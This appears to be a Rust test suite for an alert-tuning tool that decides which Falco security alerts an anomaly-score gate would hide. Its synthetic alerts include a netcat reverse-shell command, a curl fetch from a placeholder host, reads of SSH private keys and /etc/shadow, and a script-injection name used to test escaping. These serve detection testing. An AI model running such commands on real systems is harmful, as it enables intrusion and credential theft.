//! `anomalyctl tune`: what gates would do to alerts that were written already. The alerts are made up here.

use std::fmt::Write as _;
use std::fs;
use std::path::Path;
use std::process::Command;

use serde_json::{Map, Value, json};

use crate::recording::{Folder, START, gzip, web_week};
use crate::support::{PROGRAM, Ran, replay, run, run_with, settle};

const CONTACT: &str = "Container talks to the control plane";
const SHELL: &str = "Server starts a shell";
const DROPPED: &str = "Program added to a container";

fn tune(arguments: &[&str]) -> Command {
    let mut command = Command::new(PROGRAM);
    settle(&mut command);
    command.arg("tune").args(arguments);
    command
}

/// An alert of a rule at this many seconds after the first one.
fn alert(rule: &str, seconds: f64, fields: Value) -> String {
    let moment = 1_772_438_400_000_000_i64 + (seconds * 1e6) as i64;
    let Value::Object(mut fields) = fields else { panic!("fields are an object") };
    fields.insert("evt.time".into(), json!(moment * 1_000));
    let priority = if rule == DROPPED { "Critical" } else { "Notice" };
    json!({
        "hostname": "node-3", "output": "08:00:00.000000000: Notice made up", "priority": priority, "rule": rule,
        "source": "syscall", "tags": ["container"], "time": "2026-03-02T08:00:00.000000000Z", "output_fields": fields,
    })
    .to_string()
        + "\n"
}

fn connection(workload: &str, program: &str, to: &str, score: Option<&str>) -> Value {
    json!({
        "evt.type": "connect", "proc.name": program, "proc.pname": "containerd-shim", "proc.cmdline": program,
        "fd.name": format!("10.244.1.7:{}->{to}", 40_000 + to.len() * 37 + program.len()), "anomaly.score": "0.0000",
        "anomaly.event_score": score, "anomaly.workload": workload,
    })
}

fn execution(workload: &str, line: &str, score: Option<&str>) -> Value {
    let name = line.split(' ').next().unwrap_or_default();
    json!({
        "evt.type": "execve", "proc.name": name, "proc.pname": "nginx", "proc.cmdline": line, "anomaly.score": score,
        "anomaly.event_score": score, "anomaly.workload": workload,
    })
}

/// One day as a public cluster had it: 29,465 connections, 3,150 shells, 450 added programs, and 5 of something else.
fn cluster() -> String {
    let mut alerts = String::new();
    let mut add = |rule: &str, count: usize, fields: &dyn Fn(usize) -> Value| {
        for number in 0..count {
            let seconds = 86_400.0 * number as f64 / count as f64;
            alerts += &alert(rule, seconds, fields(number));
        }
    };
    add(CONTACT, 29_465, &|number| match number {
        // A known program that never did it, a stranger, and the first of a day.
        17 => connection("docker.io/library/shop", "python3", "10.96.0.1:443", Some("0.9712")),
        4_711 => connection("quay.io/argo/argocd", "nc", "203.0.113.9:6443", Some("0.9955")),
        9_000..9_010 => connection("quay.io/argo/argocd", "argocd-server", "10.96.0.1:443", Some("0.8500")),
        9_010..9_020 => connection("quay.io/argo/argocd", "argocd-server", "10.96.0.1:443", Some("0.8499")),
        0..10 => connection("quay.io/argo/argocd", "argocd-server", "10.96.0.1:443", None),
        _ if number % 3 == 0 => {
            connection("quay.io/mesh/proxy", "pilot-agent", "10.96.0.1:443", Some("0.0000"))
        }
        _ => connection("quay.io/argo/argocd", "argocd-server", "10.96.0.1:443", Some("0.0000")),
    });
    add(SHELL, 3_150, &|number| match number {
        99 => execution("docker.io/library/shop", "sh -c curl http://203.0.113.9/x", Some("0.9300")),
        _ => execution("docker.io/library/shop", &format!("sh -c check --id {number}"), Some("0.1200")),
    });
    add(DROPPED, 450, &|_| execution("docker.io/ci/build", "cc1 -o /tmp/a.o", Some("0.0000")));
    add("Seldom", 5, &|_| execution("host", "id", Some("0.9000")));
    alerts
}

fn report(ran: &Ran) -> Value {
    let lines = ran.json();
    assert_eq!(lines.len(), 1);
    lines.into_iter().next().expect("there is one")
}

fn rule<'r>(report: &'r Value, name: &str) -> &'r Value {
    let rules = report["rules"].as_array().expect("a list");
    rules.iter().find(|rule| rule["rule"] == name).unwrap_or_else(|| panic!("no {name} in {report}"))
}

#[test]
fn a_day_of_alerts_becomes_a_page_that_a_person_reads() {
    let folder = Folder::new();
    let alerts = folder.file("alerts.jsonl", cluster());
    let directory = folder.path("page");
    let ran = run(tune(&[]).arg(&alerts).arg("--json").arg("--report").arg(&directory)).succeeded();
    let report = report(&ran);
    assert_eq!((&report["alerts"], &report["days"]), (&33_070.into(), &1.0.into()));
    let names: Vec<_> =
        report["rules"].as_array().expect("a list").iter().map(|rule| &rule["rule"]).collect();
    assert_eq!(names, [CONTACT, SHELL, DROPPED, "Seldom"]);

    let contact = rule(&report, CONTACT);
    // The two attacks, ten at the threshold itself, ten of the learning workload.
    assert_eq!(contact["remain"], json!({"0.70": 32, "0.85": 22, "0.95": 12}));
    assert_eq!((&contact["hidden"], &contact["learning"]), (&29_443.into(), &10.into()));
    assert_eq!((&contact["advice"]["recommended"], &contact["a_day"]), (&true.into(), &29_465.0.into()));
    let workloads = contact["workloads"].as_array().expect("a list");
    assert_eq!(
        workloads.iter().map(|workload| workload["alerts"].as_u64().unwrap_or(0)).sum::<u64>(),
        29_465
    );
    // Grouped: whoever did it, to what; ports that the kernel chose do not tell one from another.
    let hidden = contact["would_hide"].as_array().expect("a list");
    assert_eq!(hidden.len(), 2, "{hidden:?}");
    assert_eq!(hidden[0]["program"], "containerd-shim > argocd-server");
    assert_eq!(hidden[0]["object"], "connect 10.96.0.1:443");
    // The example is the most novel of them.
    assert_eq!(hidden[0]["highest"], 0.8499);
    let remains = contact["would_remain"].as_array().expect("a list");
    let fates: Vec<_> = remains.iter().map(|group| (&group["fate"], &group["count"])).collect();
    let expected = [("novel", 10), ("learning", 10), ("novel", 1), ("novel", 1)]
        .map(|(fate, count)| (json!(fate), json!(count)));
    assert_eq!(fates, expected.each_ref().map(|(fate, count)| (fate, count)));

    // Numbers in command lines do not make groups.
    let shell = rule(&report, SHELL);
    assert_eq!(shell["would_hide"].as_array().map(Vec::len), Some(1));
    assert_eq!(shell["would_hide"][0]["object"], "sh -c check --id #");
    let dropped = &rule(&report, DROPPED)["advice"];
    assert_eq!(dropped["recommended"], false);
    assert!(dropped["why_not"][0].as_str().is_some_and(|why| why.contains("only by name")), "{dropped}");
    assert!(rule(&report, "Seldom")["advice"]["why_not"].to_string().contains("not noisy"));

    let page = fs::read_to_string(directory.join("report.html")).expect("it was written");
    for part in [CONTACT, "29443", "argocd-server", "<svg", "connect 10.96.0.1:443", "Would be hidden"] {
        assert!(page.contains(part), "no {part}");
    }
    assert!(!page.contains("<script") && !page.contains("href=") && page.len() < 200_000, "{}", page.len());
    let written = fs::read(directory.join("report.json")).expect("it was written");
    assert_eq!(serde_json::from_slice::<Value>(&written).expect("JSON"), report);
}

#[test]
fn a_person_sees_the_rules_and_what_would_be_hidden() {
    let ran = run_with(&mut tune(&[]), cluster().as_bytes()).succeeded();
    // Columns are as wide as what is in them.
    let out: String = ran
        .out
        .split_inclusive('\n')
        .map(|line| line.split_whitespace().collect::<Vec<_>>().join(" ") + "\n")
        .collect();
    for line in [
        "33,070 alerts of 4 rules in 1.0 days",
        &format!("{CONTACT} 29,465 32 22 12 gate"),
        &format!("{CONTACT}: a gate would hide 29,443 of 29,465 alerts (99.9 %)"),
        "would be hidden:",
        "would remain:",
        "not recommended: it is CRITICAL",
    ] {
        assert!(out.contains(line), "no {line:?} in\n{}", ran.out);
    }
    assert!(ran.out.lines().count() < 100, "a page is a page");
}

#[test]
fn gates_are_written_for_the_rules_that_were_named_and_shown() {
    let folder = Folder::new();
    let alerts = folder.file("alerts.jsonl", cluster());
    let file = folder.path("gates.yaml");
    let write = |arguments: &[&str]| {
        let mut command = tune(arguments);
        command.arg(&alerts).arg("--write").arg(&file);
        run(&mut command)
    };
    // Who names none gets none, and everything is shown before it is written.
    write(&[]).failed_with(&["--write needs to know", "--rule"]);
    write(&["--rule", "Nothing of the kind"]).failed_with(&["no alert is of the rule", CONTACT]);
    assert!(!file.exists());
    let ran = write(&["--all-noisy"]).succeeded();
    assert!(ran.out.contains("connect 10.96.0.1:443") && ran.err.contains("2 gates written"), "{}", ran.err);
    let text = fs::read_to_string(&file).expect("it was written");
    for part in [
        format!(
            "- rule: {CONTACT}\n  condition: and not anomaly.event_score < 0.85\n  override:\n    condition: append\n"
        ),
        format!("- rule: {SHELL}\n"),
        "- required_plugin_versions:\n    - name: anomaly\n".to_owned(),
        "it would have hidden 29443.".to_owned(),
    ] {
        assert!(text.contains(&part), "no {part} in\n{text}");
    }
    assert!(
        !text.contains(DROPPED) && !text.contains("Seldom") && !text.contains("skip-if-unknown"),
        "{text}"
    );
    // It passes our own lint, and a file that somebody reviewed is not replaced by the way.
    let mut lint = Command::new(PROGRAM);
    settle(&mut lint);
    run(lint.arg("lint-rules").arg(&file)).succeeded();
    write(&["--all-noisy"]).failed_with(&["gates.yaml exists", "--force"]);
    let ran = write(&["--rule", DROPPED, "--force"]).succeeded();
    assert!(ran.err.contains("is CRITICAL: with its gate"), "{}", ran.err);
    let text = fs::read_to_string(&file).expect("it was written");
    assert!(text.contains(&format!("- rule: {DROPPED}\n")) && !text.contains(CONTACT), "{text}");
    assert_eq!(
        fs::read_dir(folder.path("")).expect("it is there").count(),
        2,
        "nothing half-written is left"
    );
}

#[test]
fn a_reader_that_leaves_gets_no_gates_and_the_report_all_the_same() {
    let folder = Folder::new();
    // More than a pipe holds.
    let mut alerts = String::new();
    for number in 0_u32..900 {
        let words: String =
            number.to_string().chars().map(|digit| char::from(digit as u8 - b'0' + b'a')).collect();
        alerts += &alert(
            SHELL,
            10.0,
            execution("web", &format!("sh -c {words} {}", "x".repeat(200)), Some("0.1000")),
        );
    }
    folder.file("alerts.jsonl", alerts);
    for format in ["", "--json"] {
        let script = format!(
            "cd {} && rm -rf page && {PROGRAM} tune alerts.jsonl {format} --rule '{SHELL}' --report page --write gates.yaml \
             | head -c 10; exit ${{PIPESTATUS[0]}}",
            folder.path("").display()
        );
        let mut command = Command::new("bash");
        settle(&mut command);
        run(command.args(["-c", &script])).failed_with(&["gates.yaml is not written"]);
        assert!(!folder.path("gates.yaml").exists());
        assert!(folder.path("page/report.html").exists() && folder.path("page/report.json").exists());
    }
}

/// The same alerts, however they were kept.
#[test]
fn alerts_are_read_from_files_and_journals_alike() {
    let folder = Folder::new();
    let alerts = cluster();
    let lines: Vec<&str> = alerts.lines().take(500).collect();
    let plain = lines.join("\n");
    let mut journal = String::new();
    let mut export = Vec::new();
    for (number, line) in lines.iter().enumerate() {
        let message = match number % 3 {
            0 => json!(line.as_bytes()),
            _ => json!(line),
        };
        writeln!(journal, "{}", json!({"__CURSOR": "s=1", "MESSAGE": message, "PRIORITY": "6"}))
            .expect("a string");
        export.extend(format!("__CURSOR=s=1;i={number}\nPRIORITY=6\n").bytes());
        if number % 3 == 0 {
            export.extend(b"MESSAGE\n");
            export.extend((line.len() as u64).to_le_bytes());
            export.extend(format!("{line}\n_CMDLINE\n").bytes());
            export.extend(3_u64.to_le_bytes());
            export.extend(b"a\nb\n\n");
        } else {
            export.extend(format!("MESSAGE={line}\n\n").bytes());
        }
    }
    writeln!(journal, "{}", json!({"MESSAGE": "Falco initialized", "PRIORITY": "6"})).expect("a string");
    // Falco's own metrics, which it prints among the alerts.
    let metrics =
        json!({"rule": "Falco internal: metrics snapshot", "source": "internal", "output_fields": {}});
    writeln!(journal, "{metrics}").expect("a string");
    export.extend(b"__CURSOR=s=2\nMESSAGE=Falco initialized\n\n");
    let rules = |ran: Ran| {
        assert!(!ran.err.contains("passed over"), "{}", ran.err);
        report(&ran)["rules"].clone()
    };
    let expected = rules(run_with(&mut tune(&["--json"]), plain.as_bytes()).succeeded());
    assert_eq!(expected[0]["alerts"], 500);
    let files = [
        folder.file("a.jsonl", &plain),
        folder.file("a.jsonl.gz", gzip(plain.as_bytes())),
        folder.file("journal.json", &journal),
        folder.file("journal.export", &export),
        folder.file("journal.export.gz", gzip(&export)),
    ];
    for file in &files {
        assert_eq!(rules(run(tune(&["--json"]).arg(file)).succeeded()), expected, "{}", file.display());
    }
    let both = run(tune(&["--json"]).args(&files[..2])).succeeded();
    assert_eq!(report(&both)["alerts"], 1_000);
    let log = run(tune(&["--json"]).arg(&files[3])).succeeded();
    assert_eq!(report(&log)["lines"], json!({"other": 1, "unreadable": 0}));
}

#[test]
fn what_is_no_alert_is_told_with_its_line_and_the_rest_goes_on() {
    let good = alert(SHELL, 0.0, execution("web", "sh -c x", Some("0.0000")));
    let cut = &good[..good.len() / 2];
    let bad = [
        cut.trim_end(),
        "{\"level\":\"info\",\"msg\":\"another tool's\"}",
        "Mon Mar  2 08:00:00 2026: Falco version: 0.44.1",
        "[1,2]",
        "{\"rule\":\"x\",\"output_fields\":[]}",
        "{\"rule\":\"x\"}",
        "{\"rule\":7,\"output_fields\":{}}",
        "{\"rule\":\"x\",\"output_fields\":{}}",
        "{\"rule\":\"x\",\"output_fields\":{},\"time\":\"yesterday\"}",
        "\u{1b}[31m",
    ];
    let mut input = good.clone().into_bytes();
    for line in bad.iter().cycle().take(27) {
        input.extend(line.bytes().chain([b'\n']));
    }
    input.extend(b"\xff\xfe\n\n   \n");
    input.extend(std::iter::repeat_n(b'{', 3 << 20));
    input.push(b'\n');
    input.extend(good.bytes());
    let ran = run_with(&mut tune(&["--json"]), &input).succeeded();
    let told: Vec<_> = ran.err.lines().filter(|line| line.contains("standard input: line ")).collect();
    assert_eq!(told.len(), 10, "{}", ran.err);
    for ((number, line), reason) in (2..).zip(&told).zip([
        "cut in the middle",
        "another tool's JSON",
        "no JSON object",
        "no JSON object",
        "output_fields is no object",
        "no output_fields",
        "no rule's name",
        "neither time nor evt.time",
        "time is no time",
        "no JSON object",
    ]) {
        assert!(line.contains(&format!("line {number}: ")) && line.contains(reason), "{reason}: {line}");
    }
    let report = report(&ran);
    assert_eq!((&report["alerts"], &report["lines"]["unreadable"]), (&2.into(), &29.into()));
    assert!(ran.err.contains("29 lines could not be read") && !ran.err.contains('\u{1b}'), "{:?}", ran.err);
    // A file that breaks off counts as far as it goes.
    let folder = Folder::new();
    let whole = gzip(cluster().as_bytes());
    let broken = folder.file("broken.gz", &whole[..whole.len() / 2]);
    let ran = run(tune(&[]).arg(&broken)).succeeded();
    assert!(
        ran.err.contains("broken.gz: line ") && ran.err.contains("what came before counts"),
        "{}",
        ran.err
    );
    run_with(&mut tune(&[]), b"hello\n").failed_with(&["nothing in it is an alert", "json_output"]);
    run(&mut tune(&["/no/such/log"])).failed_with(&["cannot read /no/such/log", "check the name"]);
    run(&mut tune(&["-", "-"])).failed_with(&["standard input can be read once"]);
}

#[test]
fn names_made_to_break_out_stay_text() {
    let folder = Folder::new();
    let name = "</h2><script>alert(1)</script>\u{1b}[2J\u{202e}\"\n- rule: Other";
    let mut alerts = String::new();
    for number in 0..40 {
        let mut fields =
            execution("<b>web</b>\u{9b}", "sh -c <img src=x> --password=hunter2secret", Some("0.0100"));
        fields["proc.pname"] = json!("\u{202e}x\u{0}");
        alerts += &alert(name, f64::from(number), fields);
    }
    let (file, gates) = (folder.file("alerts.jsonl", alerts), folder.path("gates.yaml"));
    let ran = run(tune(&["--all-noisy", "--report"])
        .arg(folder.path("page"))
        .arg("--write")
        .arg(&gates)
        .arg(&file));
    let ran = ran.succeeded();
    let page = fs::read_to_string(folder.path("page/report.html")).expect("it was written");
    let json = fs::read_to_string(folder.path("page/report.json")).expect("it was written");
    for (what, text) in [("page", &page), ("json", &json), ("terminal", &ran.out), ("errors", &ran.err)] {
        assert!(!text.contains("hunter2"), "{what}");
    }
    for (what, text) in [("page", &page), ("terminal", &ran.out), ("errors", &ran.err)] {
        assert!(!text.chars().any(|c| c != '\n' && (c.is_control() || c == '\u{202e}')), "{what}: {text:?}");
    }
    assert!(!page.contains("<script") && !page.contains("<img") && !page.contains("<b>web"), "{page}");
    assert!(page.contains("&lt;script&gt;alert(1)"), "{page}");
    // The gate is on that very name, in one line.
    let text = fs::read_to_string(&gates).expect("it was written");
    assert_eq!(text.matches("\n- rule: ").count(), 1, "{text}");
    assert!(text.contains("\\U0000001b[2J\\U0000202e\\\"\\U0000000a- rule: Other\"\n"), "{text}");
}

#[test]
fn a_hundred_thousand_rules_are_counted_in_bounded_memory() {
    let mut alerts = String::new();
    for number in 0..100_000 {
        alerts += &alert(&format!("Rule {number}"), 1.0, execution("web", "id", Some("0.0000")));
    }
    for _ in 0..50 {
        alerts += &alert("Rule 0", 2.0, execution("web", "id", Some("0.0000")));
    }
    let folder = Folder::new();
    let file = folder.file("alerts.jsonl", alerts);
    let mut command = tune(&["--json", "--report"]);
    let ran = run(command.arg(folder.path("page")).arg(&file)).succeeded();
    let report = report(&ran);
    assert_eq!((&report["alerts"], &report["of_other_rules"]), (&100_050.into(), &90_000.into()));
    assert_eq!(report["rules"].as_array().map(Vec::len), Some(10_000));
    assert_eq!((&report["rules"][0]["rule"], &report["rules"][0]["alerts"]), (&"Rule 0".into(), &51.into()));
    let page = fs::metadata(folder.path("page/report.html")).expect("it was written");
    assert!(page.len() < 2 << 20, "{}", page.len());
}

#[test]
fn one_rule_with_more_than_can_be_shown_is_not_gated() {
    let mut alerts = String::new();
    for number in 0_u32..1_500 {
        let words: String =
            number.to_string().chars().map(|digit| char::from(digit as u8 - b'0' + b'a')).collect();
        alerts += &alert(SHELL, 1.0, execution("web", &format!("sh -c {words}"), Some("0.0000")));
    }
    let folder = Folder::new();
    let file = folder.file("alerts.jsonl", alerts);
    let ran = run(tune(&["--json"]).arg(&file)).succeeded();
    let report = report(&ran);
    let shell = rule(&report, SHELL);
    assert_eq!((&shell["hidden"], &shell["would_hide_others"]), (&1_500.into(), &500.into()));
    assert_eq!(shell["advice"]["recommended"], false);
    let gates = folder.path("gates.yaml");
    let ran = run(tune(&["--rule", SHELL, "--write"]).arg(&gates).arg(&file));
    ran.failed_with(&["more kinds of alerts than can be shown"]);
    assert!(!gates.exists());
}

#[test]
fn who_is_not_known_or_learning_is_not_recommended_and_why() {
    let mut alerts = String::new();
    for number in 0..100 {
        let at = f64::from(number);
        alerts += &alert("Learning", at, execution("web", "id", (number % 2 == 0).then_some("0.0000")));
        let mut container = execution("web", "id", None);
        let fields = container.as_object_mut().expect("an object");
        fields.retain(|key, _| !key.starts_with("anomaly."));
        fields.insert("container.id".into(), json!("3ad7b26ded6d"));
        alerts += &alert("Unknown", at, container.clone());
        let fields = container.as_object_mut().expect("an object");
        fields.insert("container.image.repository".into(), json!("nginx"));
        alerts += &alert("Unsaid", at, container);
        // The process's score says nothing of what it opened.
        let open = json!({"evt.type": "openat", "proc.name": "cat", "fd.name": "/etc/shadow", "anomaly.score": "0.0000"});
        alerts += &alert("Open", at, open);
        let audit = alert("Audit", at, execution("web", "id", Some("0.0000")));
        alerts += &audit.replace("\"source\":\"syscall\"", "\"source\":\"k8s_audit\"");
        let mostly = execution("web", "id", (number % 25 != 0).then_some("0.0000"));
        alerts += &alert("Mostly", at, mostly);
    }
    let folder = Folder::new();
    let file = folder.file("alerts.jsonl", alerts);
    let ran = run(tune(&["--json"]).arg(&file)).succeeded();
    let report = report(&ran);
    for (name, counts, why) in [
        ("Learning", json!([50, 50, 0, 0]), "being learned"),
        ("Unknown", json!([0, 0, 100, 0]), "not known"),
        ("Unsaid", json!([0, 0, 0, 100]), "append anomaly.score and anomaly.event_score"),
        ("Open", json!([0, 0, 0, 100]), "append anomaly.score and anomaly.event_score"),
        ("Audit", json!([100, 0, 0, 0]), "no system calls"),
        ("Mostly", json!([96, 4, 0, 0]), ""),
    ] {
        let rule = rule(&report, name);
        let counted =
            ["hidden", "learning", "unknown_workload", "unsaid"].map(|key| rule[key].clone()).to_vec();
        assert_eq!(Value::Array(counted), counts, "{name}");
        assert_eq!(rule["advice"]["recommended"], why.is_empty(), "{name}");
        assert!(rule["advice"]["why_not"].to_string().contains(why), "{name}: {}", rule["advice"]);
    }
    assert_eq!(rule(&report, "Unsaid")["workloads"][0]["workload"], "docker.io/library/nginx");
    assert_eq!(rule(&report, "Open")["workloads"][0]["workload"], "host");
    let write = |name: &str| {
        run(tune(&["--force", "--rule", name, "--write"]).arg(folder.path("gates.yaml")).arg(&file))
    };
    write("Audit").failed_with(&["not about system calls", "Falco would not start"]);
    let ran = write("Learning").succeeded();
    assert!(ran.err.contains("gated though it is not recommended"), "{}", ran.err);
    let nothing =
        folder.file("unknown.jsonl", alert("Unknown", 0.0, json!({"container.id": "3ad7b26ded6d"})));
    let ran = run(tune(&["--all-noisy", "--write"]).arg(folder.path("none.yaml")).arg(nothing));
    ran.failed_with(&["no rule is recommended"]);
}

/// Acts are learned for a day at least, so the first of seven days has no scores: no reason to wait for another week.
#[test]
fn what_was_learned_in_the_meantime_is_recommended() {
    let mut alerts = String::new();
    for hour in 0..7 * 24 {
        for _ in 0..5 {
            let score = (hour >= 24).then_some("0.0000");
            alerts +=
                &alert(CONTACT, f64::from(hour) * 3600.0, connection("web", "nginx", "10.96.0.1:443", score));
        }
    }
    let learned = report(&run_with(&mut tune(&["--json"]), alerts.as_bytes()).succeeded());
    let rule = rule(&learned, CONTACT);
    assert_eq!((&rule["learning"], &rule["hidden"]), (&120.into(), &720.into()));
    assert_eq!(
        (&rule["advice"]["recommended"], &rule["workloads"][0]["is_learning"]),
        (&true.into(), &false.into())
    );
    // One that was learned and is being learned again, as after its database was lost.
    for number in 0..300 {
        alerts += &alert(
            CONTACT,
            7.0 * 86_400.0 + f64::from(number),
            connection("web", "nginx", "10.96.0.1:443", None),
        );
    }
    let lost = report(&run_with(&mut tune(&["--json"]), alerts.as_bytes()).succeeded());
    let advice = &self::rule(&lost, CONTACT)["advice"];
    assert!(advice["why_not"][0].as_str().is_some_and(|why| why.contains("being learned (web)")), "{advice}");
}

/// Where Falco did not print a score, a baseline knows what it would have been.
#[test]
fn what_lacks_a_score_is_scored_by_the_baseline_and_said_to_be_so() {
    let folder = Folder::new();
    let data = folder.path("data");
    let recording = folder.recording("week.jsonl", &web_week("docker.io/library/web"));
    run(replay(&recording).arg("--data").arg(&data)).succeeded();
    let mut alerts = String::new();
    let fields = |line: &str, parent: &str| {
        let mut fields = Map::new();
        let (exe, args) = line.split_once(' ').unwrap_or((line, ""));
        for (key, value) in [
            ("evt.type", "execve"),
            ("container.id", "3ad7b26ded6d"),
            ("container.image.repository", "web"),
            ("proc.name", exe.rsplit('/').next().unwrap_or_default()),
            ("proc.exe", exe),
            ("proc.args", args),
            ("proc.cmdline", line),
            ("proc.pname", parent),
            ("proc.aname[2]", "systemd"),
            ("user.uid", "33"),
        ] {
            fields.insert(key.to_owned(), json!(value));
        }
        Value::Object(fields)
    };
    for number in 0..50 {
        alerts += &alert(SHELL, f64::from(number), fields("/opt/mon/check.sh 8080", "sh"));
    }
    alerts += &alert(SHELL, 60.0, fields("nc -e /bin/sh 203.0.113.9 4444", "nginx"));
    let mut elsewhere = fields("id", "sh");
    elsewhere["container.image.repository"] = json!("another");
    alerts += &alert(SHELL, 70.0, elsewhere);
    let file = folder.file("alerts.jsonl", alerts);
    let ran = run(tune(&["--json", "--data"]).arg(&data).arg(&file)).succeeded();
    let report = report(&ran);
    let shell = rule(&report, SHELL);
    assert_eq!((&shell["scores_printed"], &shell["scores_from_baseline"]), (&0.into(), &51.into()));
    assert_eq!((&shell["hidden"], &shell["unknown_workload"]), (&50.into(), &1.into()), "{shell}");
    let remains = shell["would_remain"].as_array().expect("a list");
    assert!(
        remains.iter().any(|group| group["program"] == "nginx > nc" && group["fate"] == "novel"),
        "{shell}"
    );
    let ran = run(tune(&["--data"]).arg(&data).arg(&file)).succeeded();
    assert!(ran.out.contains("51 alerts scored from output fields by the baseline"), "{}", ran.out);
    let without = run(tune(&["--json"]).arg(&file)).succeeded();
    assert_eq!(rule(&self::report(&without), SHELL)["unsaid"], 52);
    run(tune(&["--data"]).arg(folder.path("nothing")).arg(&file)).failed_with(&["nothing"]);
}

/// The same for what programs do: what is not printed is taken for the best known that it may have been.
#[test]
fn acts_that_lack_a_score_are_asked_of_the_baseline_too() {
    let folder = Folder::new();
    let data = folder.path("data");
    let mut recording = String::new();
    for hour in 0..7 * 24 {
        for (kind, object, flags) in [("open", "/etc/passwd", "read"), ("connect", "10.96.0.1:443", "tcp")] {
            let line = json!({
                "workload": "docker.io/library/web", "time": START + f64::from(hour) * 3600.0, "name": "nginx",
                "parent": "nginx", "uid": 33, "exe": "/usr/sbin/nginx", "kind": kind, "object": object, "flags": [flags],
            });
            writeln!(recording, "{line}").expect("a string");
        }
    }
    run(replay(&folder.file("acts.jsonl", recording)).arg("--data").arg(&data)).succeeded();

    let mut alerts = String::new();
    let mut add = |rule: &str, count: u32, event: &str, name: &str, file: &str| {
        for number in 0..count {
            let fields = json!({
                "evt.type": event, "container.id": "3ad7b26ded6d", "container.image.repository": "web",
                "proc.name": name, "proc.pname": "nginx", "proc.exepath": "/usr/sbin/nginx", "user.uid": 33,
                "fd.name": file, "anomaly.score": "0.0000",
            });
            alerts += &alert(rule, f64::from(number), fields);
        }
    };
    add("Reads", 40, "openat", "nginx", "/etc/passwd");
    add("Reads", 1, "openat", "nginx", "/root/.ssh/id_rsa");
    add("Talks", 40, "connect", "nginx", "10.244.1.7:40112->10.96.0.1:443");
    add("Talks", 1, "connect", "nginx", "10.244.1.7:40112->203.0.113.9:4444");
    add("Traces", 1, "ptrace", "nginx", "");
    add("Takes", 1, "accept4", "nginx", "203.0.113.9:40112->10.244.1.7:443");
    let file = folder.file("alerts.jsonl", alerts);
    let ran = run(tune(&["--json", "--data"]).arg(&data).arg(&file)).succeeded();
    let report = report(&ran);
    for (name, hidden, novel) in
        [("Reads", 40, "openat /root/.ssh/id_rsa"), ("Talks", 40, "connect 203.0.113.9:4444")]
    {
        let rule = rule(&report, name);
        assert_eq!((&rule["hidden"], &rule["scores_from_baseline"]), (&hidden.into(), &41.into()), "{rule}");
        let remains = &rule["would_remain"][0];
        assert_eq!((&remains["fate"], &remains["object"]), (&"novel".into(), &novel.into()), "{rule}");
    }
    // Whom it traced is not printed; a kind of which nothing is known is learned first.
    assert_eq!(rule(&report, "Traces")["unsaid"], 1);
    assert_eq!(rule(&report, "Takes")["learning"], 1);
}

#[test]
fn a_directory_that_cannot_be_written_is_told_before_anything_is_read() {
    let folder = Folder::new();
    let file = folder.file("file", "");
    run(tune(&["--report"]).arg(&file).arg("/no/such/log"))
        .failed_with(&["cannot write the report", "--report"]);
    let directory = Path::new("/");
    run(tune(&["--all-noisy", "--write"]).arg(directory)).failed_with(&["is a directory", "--write"]);
}
